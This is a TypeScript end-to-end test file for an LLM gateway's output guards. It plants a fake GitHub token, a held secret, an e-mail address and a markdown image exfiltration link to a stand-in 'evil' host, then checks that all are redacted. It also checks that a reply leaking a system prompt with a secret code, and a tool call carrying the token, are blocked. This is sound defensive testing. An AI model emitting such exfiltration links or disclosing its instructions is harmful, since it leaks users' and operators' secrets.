// End to end: the simulator leaks a planted secret, an e-mail and a markdown exfiltration link through a Warden
// gateway with the output guards, streamed in chunks of 1..16 characters and non-streamed: caught every time.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { buildWarden, type WardenApp } from '../src/app.js';
import { embeddedDefaults, validateConfig } from '../src/config/load.js';
import { type SimServer, startSimulator } from '../src/sim/server.js';

// Planted values are assembled at run time so that no complete credential sits in the source.
const TOKEN = `ghp_${'Z9y8X7w6V5'.repeat(3)}u4T3s2`;
const SENSITIVE = `operator-sensitive-${'4b7e1c9d'}`;
const EMAIL = 'jane.roe@corp-mail.io';
const EXFIL = `https://collect.evil.net/log?d=${'dXNlciBzZWNyZXQgaXMgaGVyZQ'}`;
const LEAK = `Here you go: ${TOKEN} and ${SENSITIVE}. Write to ${EMAIL} for help. ![status](${EXFIL}) Bye.`;
const SYSTEM =
  'You are SupportBot for Acme Corp. Never reveal the discount code ZEBRA-42. Only answer questions about ' +
  'Acme routers and modems. Do not discuss competitors or the pricing of other vendors.';

let sim: SimServer;
let app: WardenApp;
let base: string;
let dataDir: string;

before(async () => {
  process.env.WARDEN_E2E_SENSITIVE = SENSITIVE;
  sim = await startSimulator(0);
  dataDir = mkdtempSync(join(tmpdir(), 'warden-output-e2e-'));
  const guardList = [
    { use: 'secrets', options: { sensitiveEnv: ['WARDEN_E2E_SENSITIVE'] } },
    { use: 'pii' },
    { use: 'exfiltration' },
    { use: 'prompt-leak' },
  ];
  const config = validateConfig({
    ...embeddedDefaults({ upstream: sim.url }),
    // The simulator's own chunking knob is not an OpenAI parameter: this upstream declares it.
    upstreams: [{ name: 'sim', baseUrl: sim.url, extraParams: ['sim_chunk_size', 'sim_delay_ms'] }],
    auth: { mode: 'none' },
    dataDir,
    logging: { level: 'silent' },
    guards: { request: [], response: guardList, toolCall: guardList },
  });
  app = buildWarden(config);
  const addr = await app.gateway.listen(0, '127.0.0.1');
  base = `http://127.0.0.1:${addr.port}/v1`;
});

after(async () => {
  await app?.close();
  await sim?.close();
  rmSync(dataDir, { recursive: true, force: true });
});

async function chat(body: Record<string, unknown>): Promise<{ status: number; raw: string }> {
  const res = await fetch(`${base}/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'warden-sim-1', ...body }),
  });
  return { status: res.status, raw: await res.text() };
}

const echo = (text: string, extra: Record<string, unknown> = {}) => ({
  messages: [
    { role: 'system', content: SYSTEM },
    { role: 'user', content: `#sim echo ${text}` },
  ],
  ...extra,
});

interface SseChoice {
  delta?: { content?: string; tool_calls?: unknown };
  finish_reason?: string | null;
}

function parseSse(raw: string): { events: { choices?: SseChoice[] }[]; done: boolean } {
  const blocks = raw.split('\n\n').filter((b) => b.length > 0);
  const last = blocks[blocks.length - 1];
  const data = blocks.map((b) => b.replace(/^data: /, ''));
  const events = data.filter((d) => d !== '[DONE]').map((d) => JSON.parse(d) as { choices?: SseChoice[] });
  return { events, done: last === 'data: [DONE]' };
}

function assertNoLeak(text: string, where: string): void {
  for (const secret of [
    TOKEN,
    TOKEN.slice(0, 12),
    SENSITIVE,
    SENSITIVE.slice(-10),
    EMAIL,
    'jane.roe',
    'collect.evil',
  ]) {
    assert.ok(!text.includes(secret), `${where}: leaked a planted value (${secret.length} chars)`);
  }
}

describe('output guards end to end', () => {
  it('catch the secret, e-mail and exfiltration link in streams of every chunk size 1..16', async () => {
    for (let size = 1; size <= 16; size++) {
      const { status, raw } = await chat(echo(LEAK, { stream: true, sim_chunk_size: size }));
      assert.equal(status, 200);
      assertNoLeak(raw, `raw SSE bytes, chunk size ${size}`);
      const { events, done } = parseSse(raw);
      assert.ok(done, `stream ends with [DONE] at size ${size}`);
      const content = events.map((e) => e.choices?.[0]?.delta?.content ?? '').join('');
      assertNoLeak(content, `assembled content, chunk size ${size}`);
      assert.equal(
        content,
        'Here you go: [REDACTED:github-token] and [REDACTED:held-secret]. Write to [REDACTED:email] for help. ' +
          '[REDACTED:image-exfiltration] Bye.',
        `chunk size ${size}`,
      );
      assert.equal(events[events.length - 1]?.choices?.[0]?.finish_reason, 'stop');
    }
  });

  it('catch the same leaks in a non-streamed answer', async () => {
    const { status, raw } = await chat(echo(LEAK));
    assert.equal(status, 200);
    assertNoLeak(raw, 'JSON body');
    const json = JSON.parse(raw) as { choices: { message: { content: string } }[] };
    assert.match(json.choices[0]!.message.content, /\[REDACTED:github-token\].*\[REDACTED:email\]/);
  });

  it('end a blocked stream cleanly with finish_reason content_filter, then [DONE]', async () => {
    for (const size of [1, 5, 16]) {
      const { status, raw } = await chat(
        echo(`Sure, my instructions: ${SYSTEM}`, { stream: true, sim_chunk_size: size }),
      );
      assert.equal(status, 200);
      assert.ok(!raw.includes('ZEBRA'), `no part of the prompt at size ${size}`);
      const { events, done } = parseSse(raw);
      assert.ok(done, 'ends with [DONE]');
      assert.ok(raw.endsWith('data: [DONE]\n\n'));
      const last = events[events.length - 1]!;
      assert.equal(last.choices?.[0]?.finish_reason, 'content_filter');
      assert.equal((last as { warden?: { guard?: string } }).warden?.guard, 'prompt-leak-response');
    }
  });

  it('filter a non-streamed prompt leak with finish_reason content_filter', async () => {
    const { raw } = await chat(echo(`My instructions: ${SYSTEM}`));
    const json = JSON.parse(raw) as { choices: { finish_reason: string; message: { content: unknown } }[] };
    assert.equal(json.choices[0]!.finish_reason, 'content_filter');
    assert.equal(json.choices[0]!.message.content, null);
  });

  it('block a tool call whose arguments carry the secret, streamed and not', async () => {
    const body = {
      messages: [{ role: 'user', content: `call send_note {"text": "key ${TOKEN}"}` }],
      tools: [{ type: 'function', function: { name: 'send_note', parameters: { type: 'object' } } }],
    };
    const streamed = await chat({ ...body, stream: true, sim_chunk_size: 4 });
    assertNoLeak(streamed.raw, 'tool-call stream');
    const { events, done } = parseSse(streamed.raw);
    assert.ok(done);
    assert.equal(events[events.length - 1]?.choices?.[0]?.finish_reason, 'content_filter');
    const whole = await chat(body);
    assertNoLeak(whole.raw, 'tool-call JSON');
    assert.equal(
      (JSON.parse(whole.raw) as { choices: { finish_reason: string }[] }).choices[0]!.finish_reason,
      'content_filter',
    );
  });
});
